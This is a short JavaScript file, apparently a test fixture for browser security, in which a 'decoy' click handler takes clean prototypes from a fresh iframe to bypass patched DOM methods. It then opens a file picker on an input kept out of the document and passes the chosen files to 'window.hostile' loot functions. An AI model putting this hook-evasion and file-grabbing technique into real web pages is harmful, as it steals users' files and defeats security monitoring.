// Takes the browser's functions from a frame of its own, and picks with an input that is in no document.
addEventListener('DOMContentLoaded', () => {
  document.getElementById('decoy').addEventListener('click', () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const { HTMLElement, HTMLInputElement, EventTarget } = frame.contentWindow;
    const filesOf = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'files').get;
    const input = document.createElement('input');
    input.type = 'file';
    const loot = () => {
      window.hostile.lootFiles(filesOf.call(input));
      window.hostile.lootInput(input);
    };
    for (const type of ['input', 'change']) EventTarget.prototype.addEventListener.call(input, type, loot, true);
    HTMLElement.prototype.click.call(input);
  });
});
